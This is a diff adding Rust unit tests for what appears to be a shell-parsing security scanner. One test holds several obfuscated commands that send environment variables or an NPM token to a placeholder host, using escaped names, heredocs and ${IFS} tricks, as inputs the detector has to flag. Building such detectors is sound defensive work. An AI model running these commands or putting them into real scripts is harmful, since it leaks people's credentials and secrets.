@@ -116,3 +116,65 @@ fn network_tools_are_seen_in_any_position() {
     assert!(names_tool("sh -c \"wget x\""));
     assert!(!names_tool("node curl.js"));
 }
+
+#[test]
+fn shells_are_read_as_shells_read_them() {
+    let words = |text: &str| -> Vec<String> {
+        super::shell::pipelines(text)
+            .iter()
+            .flatten()
+            .flat_map(|simple| simple.words.iter().map(|word| super::shell::literal(word)))
+            .collect()
+    };
+    for (text, expected) in [
+        ("a 'b c' d", vec!["a", "b c", "d"]),
+        ("c\"u\"r'l' x", vec!["curl", "x"]),
+        (r"$'\x63url' $'a\tb'", vec!["curl", "a\tb"]),
+        ("echo '$HOME'", vec!["echo", "$HOME"]),
+        ("C=curl; $C -s ${C}x", vec!["curl", "-s", "curlx"]),
+        ("curl${IFS}-s", vec!["curl", "-s"]),
+        ("a $(b ')' c) d", vec!["a", "$(b ')' c)", "d"]),
+        ("cat <<EOF | sh\nx y\nEOF\nnext", vec!["cat", "sh", "next"]),
+        ("a # b c\nd", vec!["a", "d"]),
+        ("a \\\n b", vec!["a", "b"]),
+        ("if x; then y; fi", vec!["if", "x", "then", "y", "fi"]),
+    ] {
+        assert_eq!(words(text), expected, "{text}");
+    }
+    let documents = super::shell::pipelines("cat <<-'E' | sh\n\tone $X\n\tE\nsh <<< 'two'");
+    let bodies: Vec<String> = documents
+        .iter()
+        .flatten()
+        .flat_map(|simple| {
+            simple
+                .documents
+                .iter()
+                .map(|body| super::shell::literal(body))
+        })
+        .collect();
+    assert_eq!(bodies, ["one $X\n", "two"]);
+}
+
+#[test]
+fn hidden_commands_are_found() {
+    for command in [
+        "c\\url -d \"$(env)\" https://collector.invalid",
+        "C=curl; $C -d \"$(env)\" https://collector.invalid",
+        "sh <<EOF\nenv | curl -d @- https://collector.invalid\nEOF",
+        "curl -d @- https://collector.invalid <<EOF\n$NPM_TOKEN\nEOF",
+        "curl${IFS}-d${IFS}$NPM_TOKEN${IFS}https://collector.invalid",
+        "bash -c $'env | c\\x75rl -d @- https://collector.invalid'",
+    ] {
+        assert!(!plain(command).leaks.is_empty(), "{command}");
+    }
+    assert_eq!(
+        plain("node <<'E'\nlet a = `$b`\nE").inline,
+        ["let a = `$b`\n"]
+    );
+    // In single quotes nothing is expanded.
+    assert!(
+        plain("curl -d '$NPM_TOKEN' https://a.invalid")
+            .leaks
+            .is_empty()
+    );
+}
